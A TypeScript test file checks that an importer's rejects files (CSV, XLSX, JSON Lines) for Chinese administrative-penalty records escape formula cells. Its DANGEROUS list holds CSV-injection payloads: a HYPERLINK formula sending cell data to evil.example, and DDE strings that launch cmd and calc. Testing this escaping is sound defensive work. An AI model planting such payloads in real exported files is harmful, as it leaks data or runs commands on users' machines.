import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import ExcelJS from 'exceljs';
import { RowReason } from '../submission/rowProblem';
import { csvRecords } from './csv';
import { csvRow, mapHeaders } from './headers';
import { lineReason, rejectReason } from './rejectReasons';
import { rejectsWriter, type RejectedRow } from './rejectsFile';
import { tableRows } from './sourceFile';

async function written(format: 'csv' | 'xlsx' | 'jsonl', header: string[] | null, rows: RejectedRow[]) {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  const w = rejectsWriter(out, format, header);
  for (const r of rows) await w.add(r);
  await w.end();
  return Buffer.concat(chunks);
}

async function* one(text: string) {
  yield text;
}

const HEADER = ['行政处罚决定书文号', '行政相对人名称', '统一社会信用代码', '违法事实', '罚款金额（万元）'];
const VALUES = ['黔市监罚〔2025〕1号', '某公司', '91520100210000754X', '=HYPERLINK("http://x";"y")', '-0.5'];
const row = csvRow(mapHeaders(HEADER), VALUES);
const REJECTED: RejectedRow = {
  line: 7,
  values: VALUES,
  reasons: [
    rejectReason({ field: 'creditCode', code: RowReason.BAD_CHECK_CHARACTER, message: 'invalid check character' }, row),
    rejectReason({ field: 'fineAmount', code: RowReason.NEGATIVE_AMOUNT, message: 'must not be negative' }, row),
  ],
};

describe('rejects files', () => {
  it('CSV: UTF-8 with BOM, 行号/原因/原因代码 then the source columns, Chinese reasons, formulas escaped', async () => {
    const bytes = await written('csv', HEADER, [REJECTED]);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const records: string[][] = [];
    for await (const r of csvRecords(one(bytes.toString('utf8')))) records.push(r);
    expect(records[0]).toEqual(['行号', '原因', '原因代码', ...HEADER]);
    expect(records[1]).toEqual([
      '7',
      '统一社会信用代码/证件号码：校验位不正确，请核对代码（填写的是“91520100210000754X”）；罚款金额：金额不能为负数（填写的是“-0.5万元”）',
      'creditCode:BAD_CHECK_CHARACTER; fineAmount:NEGATIVE_AMOUNT',
      '黔市监罚〔2025〕1号',
      '某公司',
      '91520100210000754X',
      `'=HYPERLINK("http://x";"y")`,
      `'-0.5`,
    ]);
    // Sent back, the importer ignores the three columns and undoes the escapes.
    const again = mapHeaders(records[0]);
    expect(again.unknown).toEqual([]);
    expect(csvRow(again, records[1])).toEqual(row);
  });

  it('a rejects file sent back and refused again keeps one set of the three columns', async () => {
    const header = ['行号', '原因', '原因代码', ...HEADER];
    const bytes = await written('csv', header, [{ ...REJECTED, values: ['7', 'old', 'OLD', ...VALUES] }]);
    const records: string[][] = [];
    for await (const r of csvRecords(one(bytes.toString('utf8')))) records.push(r);
    expect(records[0]).toEqual(['行号', '原因', '原因代码', ...HEADER]);
    expect(records[1].slice(3)).toEqual([
      '黔市监罚〔2025〕1号',
      '某公司',
      '91520100210000754X',
      `'=HYPERLINK("http://x";"y")`,
      `'-0.5`,
    ]);
  });

  it('a workbook for a workbook, text cells only', async () => {
    const bytes = await written('xlsx', HEADER, [REJECTED]);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(bytes as never);
    const sheet = wb.worksheets[0];
    expect(sheet.name).toBe('退回行');
    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(['行号', '原因', '原因代码', ...HEADER]);
    const cells = (sheet.getRow(2).values as unknown[]).slice(1);
    expect(cells[0]).toBe('7');
    expect(cells[6]).toBe(`'=HYPERLINK("http://x";"y")`);
    expect(sheet.getRow(2).getCell(7).formula).toBeUndefined();
  });

  it('JSON Lines: the line with 行号, 原因 and 原因代码; an unreadable line as 原文', async () => {
    const text = (
      await written('jsonl', null, [
        { line: 2, values: ['{"decisionNumber":"n1","fineAmount":"-1"}'], reasons: REJECTED.reasons.slice(1) },
        { line: 3, values: ['not json'], reasons: [lineReason('NOT_JSON_OBJECT', 'Unexpected token')] },
      ])
    ).toString('utf8');
    const [a, b] = text
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(a).toEqual({
      行号: 2,
      原因: '罚款金额：金额不能为负数（填写的是“-0.5万元”）',
      原因代码: 'fineAmount:NEGATIVE_AMOUNT',
      decisionNumber: 'n1',
      fineAmount: '-1',
    });
    expect(b).toMatchObject({ 行号: 3, 原因代码: 'line:NOT_JSON_OBJECT', 原文: 'not json' });
  });

  // Every way a cell starts a formula or a DDE payload in Excel and WPS.
  const DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1;"点击查看")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
  ];
  const FORMULA_HEADER = [
    '行政处罚决定书文号',
    '违法事实',
    '处罚依据',
    '处罚内容',
    '备注',
    '处罚机关',
    '暂扣或吊销证照名称及编号',
  ];
  const formulaRow: RejectedRow = {
    line: 2,
    values: ['黔市监罚〔2025〕9号', ...DANGEROUS],
    reasons: [lineReason('FIELD_COUNT', '本行有 7 列')],
  };

  it.each(['csv', 'xlsx'] as const)(
    '%s: no cell starts a formula (=, +, -, @, tab, CR), and sent back the file gives the original values',
    async (format) => {
      const bytes = await written(format, FORMULA_HEADER, [formulaRow]);
      const file = join(mkdtempSync(join(tmpdir(), 'rejects-formulas-')), `rejects.${format}`);
      writeFileSync(file, bytes);
      const rows: string[][] = [];
      for await (const r of tableRows(file, format, 'utf8')) rows.push(r.values);
      const cells = rows[1].slice(3);
      // XML has no bare CR: a workbook cell reads it back as LF (still escaped).
      const expected = DANGEROUS.map((v) => `'${format === 'xlsx' ? v.replace(/\r/g, '\n') : v}`);
      expect(cells.slice(1)).toEqual(expected);
      for (const c of rows.flat()) expect(c).not.toMatch(/^[=+\-@\t\r]/);
      if (format === 'xlsx') {
        const wb = new ExcelJS.Workbook();
        await wb.xlsx.load(bytes as never);
        wb.worksheets[0].getRow(2).eachCell((cell) => expect(cell.formula).toBeUndefined());
      }
      const header = mapHeaders(rows[0]);
      expect(csvRow(header, rows[1])).toEqual(csvRow(mapHeaders(FORMULA_HEADER), formulaRow.values));
      // The unescaped values are the originals (trimmed, as every cell is read).
      expect(csvRow(header, rows[1])).toMatchObject({
        facts: DANGEROUS[0],
        legalBasis: DANGEROUS[1],
        penaltyContent: DANGEROUS[2],
        remarks: DANGEROUS[3],
        decidingAuthority: '=1+1',
        licenceDetail: '=1+1',
      });
    },
  );
});
